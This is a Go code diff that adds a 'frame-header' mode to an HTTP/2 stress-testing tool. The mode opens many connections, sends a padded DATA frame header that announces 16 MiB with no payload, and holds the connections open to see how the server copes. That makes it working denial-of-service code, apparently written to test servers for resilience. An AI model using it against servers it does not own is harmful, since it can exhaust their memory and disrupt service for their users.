@@ -30,7 +30,8 @@ import (
 
 // Report is what the command prints.
 type Report struct {
-	Sent       int    `json:"sent"`         // streams sent (HEADERS + RST_STREAM or WINDOW_UPDATE), or flood frames
+	Sent       int    `json:"sent"`         // streams sent (HEADERS + RST_STREAM or WINDOW_UPDATE), flood frames, or connections holding a frame header
+	Held       int    `json:"held"`         // frame-header: connections the server kept open for --duration
 	GoAway     string `json:"goaway"`       // the GOAWAY's error code, "" when none came
 	Closed     bool   `json:"closed"`       // the server closed the connection
 	After      int    `json:"after_status"` // status of the normal GET on a new connection (0: failed)
@@ -45,10 +46,14 @@ func main() {
 	mode := flag.String("mode", "rst", "how each stream is ended: rst (RST_STREAM CANCEL) or window-update-0; or a flood of frames doing no work: empty-data, ping")
 	flag.Parse()
 	switch *mode {
-	case "rst", "window-update-0", "empty-data", "ping":
+	case "rst", "window-update-0", "empty-data", "ping", "frame-header":
 	default:
-		fmt.Fprintln(os.Stderr, "h2rapid: --mode: rst, window-update-0, empty-data or ping")
+		fmt.Fprintln(os.Stderr, "h2rapid: --mode: rst, window-update-0, empty-data, ping or frame-header")
 		os.Exit(2)
+	}
+	run := run
+	if *mode == "frame-header" {
+		run = holdFrameHeaders
 	}
 	rep, err := run(*addr, *path, *mode, *streams, *duration)
 	if err != nil {
@@ -175,3 +180,66 @@ func run(addr, path, mode string, streams int, duration time.Duration) (Report, 
 type bytesBuffer []byte
 
 func (b *bytesBuffer) Write(p []byte) (int, error) { *b = append(*b, p...); return len(p), nil }
+
+// holdFrameHeaders opens conns connections, each with a POST stream and
+// then the header of a padded DATA frame on it that announces 16 MiB - 1
+// bytes, and holds them for d: the server waits for the rest of a frame it
+// has not taken yet (its pad length), which must not cost it 16 MiB per
+// connection. Sent counts the connections that sent it, Held those still
+// open after d.
+func holdFrameHeaders(addr, path, _ string, conns int, d time.Duration) (Report, error) {
+	var rep Report
+	var open []net.Conn
+	defer func() {
+		for _, c := range open {
+			c.Close()
+		}
+	}()
+	post := func(fr *http2.Framer) error {
+		var b bytesBuffer
+		e := hpack.NewEncoder(&b)
+		for _, f := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":authority", addr}, {":path", path}} {
+			_ = e.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
+		}
+		return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: b, EndHeaders: true})
+	}
+	for range conns {
+		c, err := net.DialTimeout("tcp", addr, 3*time.Second)
+		if err != nil {
+			return rep, err
+		}
+		open = append(open, c)
+		fr := http2.NewFramer(c, nil)
+		_ = c.SetWriteDeadline(time.Now().Add(3 * time.Second))
+		if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
+			return rep, err
+		}
+		if err := fr.WriteSettings(); err != nil {
+			return rep, err
+		}
+		if err := post(fr); err != nil {
+			return rep, err
+		}
+		// Flags PADDED; nothing of the payload follows.
+		if _, err := c.Write([]byte{0xff, 0xff, 0xff, byte(http2.FrameData), byte(http2.FlagDataPadded), 0, 0, 0, 1}); err != nil {
+			return rep, err
+		}
+		rep.Sent++
+	}
+	time.Sleep(d)
+	// Still open: a read finds no EOF (the server's SETTINGS and window
+	// updates are read and dropped).
+	for _, c := range open {
+		_ = c.SetReadDeadline(time.Now().Add(200 * time.Millisecond))
+		buf := make([]byte, 4096)
+		for {
+			if _, err := c.Read(buf); err != nil {
+				if ne, ok := err.(net.Error); ok && ne.Timeout() {
+					rep.Held++
+				}
+				break
+			}
+		}
+	}
+	return rep, nil
+}
